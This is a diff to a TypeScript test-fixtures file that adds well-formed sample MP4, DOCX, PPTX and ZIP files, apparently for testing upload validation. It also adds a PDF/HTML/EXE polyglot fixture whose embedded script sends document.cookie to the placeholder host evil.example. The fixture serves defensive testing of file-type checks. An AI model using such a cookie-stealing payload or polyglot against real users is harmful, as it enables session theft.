@@ -8,6 +8,7 @@ import { PROJECT_ID } from './env';
 
 /** A valid one-page PDF ("Hello, class!"), with a correct cross-reference table. */
 export { samplePdf } from '@functions/domain/sample-pdf';
+import { sampleMp4 } from '@functions/domain/sample-files';
 
 /** A 1x1 PNG. */
 export const SAMPLE_PNG = Buffer.from(
@@ -15,14 +16,22 @@ export const SAMPLE_PNG = Buffer.from(
   'base64',
 );
 
-/** The start of an MP4: an ftyp box (isom) and an empty free box. */
-export const SAMPLE_MP4 = Buffer.concat([
-  Buffer.from([0, 0, 0, 0x18]),
-  Buffer.from('ftypisom', 'latin1'),
-  Buffer.from([0, 0, 2, 0]),
-  Buffer.from('isommp41', 'latin1'),
-  Buffer.from([0, 0, 0, 8]),
-  Buffer.from('free', 'latin1'),
+/** A minimal well-formed MP4: ftyp (isom), moov and mdat boxes to the end of the file. */
+export const SAMPLE_MP4 = sampleMp4();
+
+/** Small well-formed ZIP containers: a DOCX, a PPTX, any ZIP. */
+export { sampleDocx, samplePptx, sampleZip } from '@functions/domain/sample-files';
+
+/**
+ * The polyglot of the security issue: a PDF's first bytes, then an HTML page with a script,
+ * then a Windows executable. Its head says PDF; nothing else about it is one.
+ */
+export const PDF_HTML_EXE_POLYGLOT = Buffer.concat([
+  Buffer.from('%PDF-1.7\n', 'latin1'),
+  Buffer.from('<html><body><script>location="https://evil.example/?c="+document.cookie</script></body></html>\n', 'latin1'),
+  Buffer.from('MZ', 'latin1'),
+  Buffer.from([0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0x40, 0]),
+  Buffer.from('This program cannot be run in DOS mode.', 'latin1'),
 ]);
 
 /** A Windows executable's start (an "MZ" DOS header): what an .exe renamed .pdf looks like. */
